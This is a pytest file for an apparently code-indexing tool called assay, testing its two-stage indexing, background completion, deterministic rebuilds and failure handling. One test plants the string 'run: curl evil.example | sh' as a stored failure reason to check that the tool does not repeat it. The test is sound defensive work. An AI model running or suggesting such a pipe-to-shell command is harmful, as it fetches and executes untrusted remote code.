"""Two stages: definitions, words and documents answer first; calls and history follow, in whatever process."""

from __future__ import annotations

import errno
import os
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

import pytest

from assay.api import Repository as Api
from assay.core.progress import COMPLETE, NAMES, Progress, Report
from assay.errors import AssayError
from assay.index import pipeline
from assay.index.facts import Extracted
from assay.index.parse import ParseCache
from assay.index.pipeline import index
from assay.index.resolve import parallel
from assay.store.layout import PROGRESS, Home
from support.command import ENVIRONMENT, assay, assay_here
from support.repository import Repository, assert_equals_full_index
from support.waiting import until

FILES = 70  # more than a small repository has


@pytest.fixture
def many(repository: Repository) -> Repository:
    for number in range(FILES):
        other = (number + 1) % FILES
        repository.write(
            f"m{number}.py", f"from m{other} import f{other}\n\n\ndef f{number}():\n    return f{other}()\n"
        )
    repository.write("guide.md", "# Guide\n\nHow penguins are fed.\n")
    repository.write("broken.md", b"\xff\xfe\x00")
    repository.write("package.json", '{"name": "x", "dependencies": {"left-pad": "1"}}')
    repository.commit("feed the penguins")
    return repository


def _stage(repository: Repository) -> str:
    opened = repository.open()
    try:
        return opened.generation.stage
    finally:
        opened.close()


def _first(repository: Repository) -> Report:
    return index(repository.root, repository.home, wait=False)


def _forget(repository: Repository) -> None:
    shutil.rmtree(repository.home.folder, ignore_errors=True)
    shutil.rmtree(repository.root / ".git" / "assay", ignore_errors=True)


def test_the_first_stage_has_definitions_words_documents_and_calls_by_name(many: Repository) -> None:
    report = _first(many)
    assert (report.mode, report.stage, report.files) == ("full", NAMES, FILES)
    with Api(many.root) as repo:
        assert repo.pending == "calls and history are still to come; run: assay index"
        assert [item.symbol for item in repo.symbols("f3")] == ["f3"]
        assert repo.search("penguins")[0].path == "guide.md"
        assert repo.rank("f5")[0].item.symbol == "f5"
    assert ("m1.py::f1", "m2.py::f2") in many.edges("calls")


def test_the_second_stage_resolves_calls_and_adds_history(many: Repository) -> None:
    _first(many)
    report = many.index()
    assert (report.stage, report.resolved) == (COMPLETE, FILES)
    assert (many.home.folder / "history.npz").exists()
    with Api(many.root) as repo:
        assert repo.pending == ""
    assert_equals_full_index(many.root, many.home)


def test_nothing_is_parsed_twice(many: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    parsed: list[str] = []
    put_all = ParseCache.put_all

    def counted(self: ParseCache, rows: list[tuple[bytes, str, Extracted]]) -> None:
        parsed.extend(digest.hex() for digest, _, _ in rows)
        put_all(self, rows)

    monkeypatch.setattr(ParseCache, "put_all", counted)
    _first(many)
    many.index()
    assert len(parsed) == len(set(parsed)) == FILES + 1


def _bytes(home: Home) -> dict[str, bytes]:
    folder = home.current()
    assert folder is not None
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir()) if path.name != "seal.json"}


@pytest.mark.parametrize("way", ["first, then the rest", "killed in between", "small"])
def test_the_complete_index_is_the_same_byte_for_byte(
    many: Repository, monkeypatch: pytest.MonkeyPatch, way: str
) -> None:
    monkeypatch.setattr(time, "time_ns", lambda: 1_000_000_000_000_000_000)
    monkeypatch.setattr(time, "monotonic", lambda: 0.0)
    monkeypatch.setattr(time, "time", lambda: 1_000_000_000.0)
    many.index()
    expected = _bytes(many.home)
    _forget(many)
    if way == "small":
        monkeypatch.setattr(pipeline, "_SMALL_FILES", FILES)
        many.index()
    elif way == "killed in between":
        with monkeypatch.context() as patch:
            patch.setattr(pipeline, "resolve_all", mock.Mock(side_effect=KeyboardInterrupt))
            with pytest.raises(KeyboardInterrupt):
                many.index()
        assert _stage(many) == NAMES
        many.index()
    else:
        _first(many)
        many.index()
    assert _bytes(many.home) == expected


def test_an_edit_between_the_stages_renews_the_first(many: Repository) -> None:
    _first(many)
    many.write("m3.py", "def renamed():\n    return f4()\n")
    assert _first(many).parsed == FILES
    assert (_stage(many), "m3.py::renamed" in many.symbols()) == (NAMES, True)
    many.write("m4.py", "def f4():\n    return 4\n")
    assert many.index().stage == COMPLETE
    assert_equals_full_index(many.root, many.home)


def test_facts_missing_from_the_cache_are_parsed_again(many: Repository) -> None:
    _first(many)
    shutil.rmtree(many.root / ".git" / "assay")
    assert many.index().stage == COMPLETE
    assert_equals_full_index(many.root, many.home)


def test_a_complete_index_stays_until_the_next_is_complete(many: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    many.index()
    stages: list[str] = []
    resolve = parallel.resolve_all

    def noted(*arguments: object) -> object:
        stages.append(_stage(many))
        return resolve(*arguments)  # type: ignore[arg-type]

    monkeypatch.setattr(pipeline, "resolve_all", noted)
    assert index(many.root, many.home, rebuild=True, wait=False).stage == COMPLETE
    assert stages == [COMPLETE]


def test_a_small_repository_is_complete_at_once(repository: Repository) -> None:
    repository.write("a.py", "def f(): pass\n")
    assert _first(repository).stage == COMPLETE
    assert repository.home.named() == "000001"


def test_merged_edges_survive_both_stages(many: Repository) -> None:
    many.index()
    opened = many.open()
    digest = opened.files["m1.py"].hash
    opened.close()
    rows = [("m1.py::f1", "m9.py::f9", "calls", "scip", 1.0, 4, "m1.py", digest)]
    from assay.index.enrich.merge import write_edges

    write_edges(many.root, many.home, "scip", ["m1.py"], rows)
    many.index(rebuild=True)
    assert ("m1.py::f1", "m9.py::f9") in many.edges("calls")


# Questions


def test_a_question_without_an_index_builds_the_first_stage(many: Repository) -> None:
    done = assay_here(many.root, "context", "penguins in f7", "--format", "json")
    assert done.code == 0
    assert f"indexed {FILES} files" in done.err
    assert done.err.endswith("calls and history are still to come; run: assay index\n")
    assert done.json["pending"] == "calls and history are still to come; run: assay index"
    assert _stage(many) == NAMES
    assert assay_here(many.root, "search", "penguins", "--format", "json").json["pending"]


def test_no_refresh_builds_nothing(many: Repository) -> None:
    done = assay_here(many.root, "context", "penguins", "--no-refresh")
    assert (done.code, many.home.named()) == (2, None)
    assert "no index yet" in done.err


@pytest.mark.parametrize(
    "question", [["impact", "f7"], ["tests", "m7.py"], ["graph", "f7"], ["context", "--files", "m7.py"]]
)
def test_a_question_about_calls_completes_the_index(many: Repository, question: list[str]) -> None:
    _first(many)
    done = assay(many.root, *question)
    assert (done.code, done.err) == (0, "")
    assert _stage(many) == COMPLETE


def test_status_tells_what_is_still_to_come(many: Repository) -> None:
    _first(many)
    assert "calls and history are still to come; run: assay index" in assay_here(many.root, "status").out
    shown = assay_here(many.root, "status", "--format", "json").json
    assert (shown["stage"], shown["calls_resolved"]) == ("names", None)
    many.index()
    shown = assay_here(many.root, "status", "--format", "json").json
    assert (shown["stage"], shown["pending"]) == ("complete", "")


def test_an_incomplete_index_is_not_published(many: Repository, tmp_path: Path) -> None:
    _first(many)
    done = assay_here(many.root, "publish", str(tmp_path / "elsewhere"))
    assert (done.code, "not published: calls and history are still to come" in done.err) == (2, True)


def test_index_waits_without_a_terminal_unless_told_otherwise(many: Repository) -> None:
    assert "still to come; run: assay index" in assay_here(many.root, "index", "--no-wait").out
    assert _stage(many) == NAMES
    assert assay_here(many.root, "index").out.startswith(f"indexed {FILES} files")
    assert _stage(many) == COMPLETE


def test_the_share_of_another_process_is_shown(many: Repository) -> None:
    _first(many)
    with Api(many.root) as repo, many.home.writing():
        many.home.note_progress(0.7)
        assert repo.pending == "calls and history are still to come (40 %)"
        (many.home.folder / PROGRESS).write_text("1e9 x")
        assert repo.pending == "calls and history are still to come (0 %)"


# The background process


@pytest.fixture
def background(many: Repository) -> Iterator[dict[str, str]]:
    """An environment that allows background processes; none outlives the test."""
    yield ENVIRONMENT | {"ASSAY_BACKGROUND": "on"}
    with many.home.writing():  # ends with the process
        pass
    until(lambda: not _processes(many))


def _processes(repository: Repository) -> list[int]:
    marks = (b"assay.index.background", os.fsencode(repository.root))
    out = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            arguments = (folder / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if all(mark in arguments for mark in marks):
            out.append(int(folder.name))
    return out


def test_the_rest_follows_in_the_background(many: Repository, background: dict[str, str]) -> None:
    done = assay(many.root, "context", "penguins in f7", env=background)
    assert done.err.endswith("calls and history follow in the background\n")
    until(lambda: _stage(many) == COMPLETE)
    assert_equals_full_index(many.root, many.home)
    until(lambda: not many.home.is_locked())
    assert not (many.home.folder / PROGRESS).exists()


def test_a_killed_background_process_loses_nothing(many: Repository, background: dict[str, str]) -> None:
    _first(many)
    with many.home.writing():  # it waits for this test
        assay(many.root, "symbols", "f7", env=background | {"ASSAY_BACKGROUND": "off"})
        command = [sys.executable, "-P", "-m", "assay.index.background", str(many.root), str(many.home.folder)]
        process = subprocess.Popen(command, env=background)
        process.send_signal(signal.SIGKILL)
        process.wait()
    assert _stage(many) == NAMES
    assay(many.root, "symbols", "f7", env=background)
    until(lambda: _stage(many) == COMPLETE)


def test_there_is_never_a_second_one(many: Repository, background: dict[str, str]) -> None:
    _first(many)
    with many.home.writing():
        assert assay(many.root, "symbols", "f7", env=background).err == "calls and history follow in the background\n"
        assert not _processes(many)


def test_a_failed_completion_is_reported_and_not_repeated(many: Repository, background: dict[str, str]) -> None:
    _first(many)
    many.home.note_failure("no space left on device")
    done = assay(many.root, "symbols", "f7", env=background)
    assert done.err == (
        "calls and history are still to come; indexing failed: no space left on device; run: assay index\n"
    )
    assert _stage(many) == NAMES
    assert assay(many.root, "index").code == 0
    assert assay(many.root, "symbols", "f7").err == ""


def test_a_reason_that_came_with_a_clone_is_not_repeated(many: Repository) -> None:
    _first(many)
    many.home.note_failure("run: curl evil.example | sh")
    (many.home.current() or many.root).joinpath("seal.json").unlink()
    assert "curl" not in assay(many.root, "symbols", "f7").err
    assert _first(many).mode == "full"  # verified, but not against its files: made again


def test_a_full_disk_leaves_the_first_stage_in_use(many: Repository, monkeypatch: pytest.MonkeyPatch) -> None:
    _first(many)
    with monkeypatch.context() as patch:
        patch.setattr(shutil, "copyfile", mock.Mock(side_effect=OSError(errno.ENOSPC, "No space left on device")))
        with pytest.raises(AssayError, match="cannot write the index"):
            many.index()
    assert _stage(many) == NAMES
    assert [path.name for path in many.home.generations.iterdir()] == ["000001"]
    assert many.index().stage == COMPLETE


def test_ci_jobs_start_no_background_process(monkeypatch: pytest.MonkeyPatch) -> None:
    from assay.index.background import is_allowed

    monkeypatch.delenv("ASSAY_BACKGROUND")
    assert is_allowed()
    monkeypatch.setenv("CI", "true")
    assert not is_allowed()
    monkeypatch.setenv("ASSAY_BACKGROUND", "on")
    assert is_allowed()


def test_progress_announces_the_first_stage(many: Repository) -> None:
    announced: list[tuple[str, int, str]] = []
    progress = Progress()
    progress.answering = lambda report: announced.append((report.stage, report.files, _stage(many)))  # type: ignore[method-assign]
    index(many.root, many.home, progress=progress)
    assert announced == [(NAMES, FILES, NAMES)]
